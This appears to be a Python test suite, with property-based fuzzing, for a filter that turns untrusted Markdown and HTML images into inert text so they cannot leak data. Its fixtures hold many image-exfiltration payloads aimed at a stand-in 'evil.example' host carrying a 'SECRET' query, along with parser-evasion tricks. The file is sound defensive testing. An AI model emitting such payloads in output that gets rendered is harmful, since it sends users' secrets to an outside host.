"""No image that nobody named is left in a text, by the judgement of a parser of Markdown and one of HTML."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt

from openrouter_agents.foreign_images import defuse_images

GOOD = "https://good.example/cat.png"
EVIL = "https://evil.example/?q=SECRET"
RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True}))


def defuse(text: str) -> str:
    return defuse_images(text, lambda url: url == GOOD)


def fetched(text: str) -> set[str]:
    """What showing a text fetches, in any element but code."""
    found: set[str] = set()
    for renderer in RENDERERS:
        tree = html.fragment_fromstring(renderer.render(text), create_parent=True)
        for element in tree.xpath("//*[@src or @srcset or @poster or @data or @background or @style]"):
            found.update(value for key, value in element.items() if key != "alt")
    return found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"![chart]({EVIL})", f"chart: `{EVIL}`"),
        (f"See ![]({EVIL}).", f"See `{EVIL}`."),
        (f'![a]({EVIL} "title")', f"a: `{EVIL}`"),
        (f"![a](<{EVIL}>)", f"a: `{EVIL}`"),
        ("![a](https://evil.example/a_(b).png)", "a: `https://evil.example/a_(b).png`"),
        ("![a](plot.png)", "a: `plot.png`"),
        ("![a]()", "a"),
        (f"[![badge]({EVIL})](https://b.example)", f"[badge: `{EVIL}`](https://b.example)"),
        (f"![a ![b]({GOOD})]({EVIL})", f"a b {GOOD}: `{EVIL}`"),
        (f"![a][1]\n\n[1]: {EVIL}", f"!\\[a][1]\n\n[1]: {EVIL}"),
        (f"<img src='{EVIL}'>", f"< img src='{EVIL}'>"),
        (f"<IMG\nsrc={EVIL}>", f"< IMG\nsrc={EVIL}>"),
        (f"<p style='background: url({EVIL})'>", f"< p style='background: url({EVIL})'>"),
        (f"![cat]({GOOD}) and ![c\n`a`]({GOOD} 'x')", f"![cat]({GOOD}) and ![c a]({GOOD})"),
        (f"```md\n![a]({EVIL})\n```\n", f"```md\n![a]({EVIL})\n```\n"),
        (f"- list\n  ~~~\n  <img src={EVIL}>\n  ~~~\n", f"- list\n  ~~~\n  <img src={EVIL}>\n  ~~~\n"),
        (f"```\nx\r\n```\r\n![a]({EVIL})", f"```\nx\r\n```\r\na: `{EVIL}`"),
        ("a < b, [link](https://a.example), x[1] <br> <b>bold</b> wow! [x]", None),
    ],
)
def test_images_become_text(text, expected):
    assert defuse(text) == (text if expected is None else expected)
    assert fetched(defuse(text)) <= {GOOD}


@pytest.mark.parametrize(
    "text",
    [
        f"\\`![x]({EVIL})\\`",
        f"`` ` ![x]({EVIL}) ``",
        f"``![x]({EVIL})`",
        f"<div>\n```\n\n![x]({EVIL})\n```\n</div>",
        f"```a`b\n![x]({EVIL})\n```",
        f"    ```\n![x]({EVIL})\n    ```",
        f"> ```\n![x]({EVIL})\n> ```",
        f"!![x][y]\n\n[y]: {EVIL}",
        f"!\\![x][y]\n\n[y]: {EVIL}",
        f"![x\n\ty]({EVIL})",
        f"![x](\n{EVIL}\n)",
        f"![{'[' * 50}x{']' * 50}]({EVIL})",
        f"![x](https://evil.example\\@good.example/?{'a' * 9000})",
        f"![![![x]({EVIL})]({EVIL})]({EVIL})",
        f"[x]![]({EVIL})![]({GOOD})",
        f"![a`b]({EVIL})`",
        f"<video poster={EVIL}><source src={EVIL}></video><object data={EVIL}>",
        f"<img/src={EVIL}><svg><image href={EVIL}></svg>",
        f"![x]({GOOD}\\@evil.example)",
        f"![x]({GOOD}&quot;)",
        f'![x]({GOOD} "a\n\n![y]({EVIL})")',
        f'![x]({GOOD} "a\\" ![y]({EVIL})")',
        f"![ ![y]({EVIL})\n\n ]({GOOD})",
        f"![ <img src={EVIL}> ]({GOOD})",
    ],
)
def test_tricks_do_not_get_through(text):
    assert fetched(defuse(text)) <= {GOOD}


SIGNS = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "`",
    "```",
    "```\n",
    "~~~",
    "\n",
    "\n\n",
    "    ",
    "> ",
    "- ",
    "\\",
    ">",
    '"',
    "\r",
    "\t",
    " ",
]
WORDS = ["![x]", f"({EVIL})", f"({GOOD})", f"({GOOD} '", "<img src=", f"'{EVIL}'", f"<{EVIL}>", "<div>", "</div>"]
MORE = ["<!--", "-->", "[x]: ", EVIL, GOOD, "a", f"![x]({EVIL})", f"![x]({GOOD})"]
PIECES = st.sampled_from([*SIGNS, *WORDS, *MORE])


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_nothing_gets_through(text):
    assert fetched(defuse(text)) <= {GOOD}


@given(st.text("ab ![](<)`\n", max_size=60))
def test_a_text_without_images_is_left_as_it_is(text):
    if "![" not in text:
        assert defuse(text) == text


@pytest.mark.parametrize("piece", ["![", "![a](", "![[]", "![a](b(", "<a ", "<img ", "!\\[", "![a](b 'c"])
def test_long_texts_are_no_burden(piece):
    assert "![" not in defuse(piece * 8_000).replace("!\\[", "")
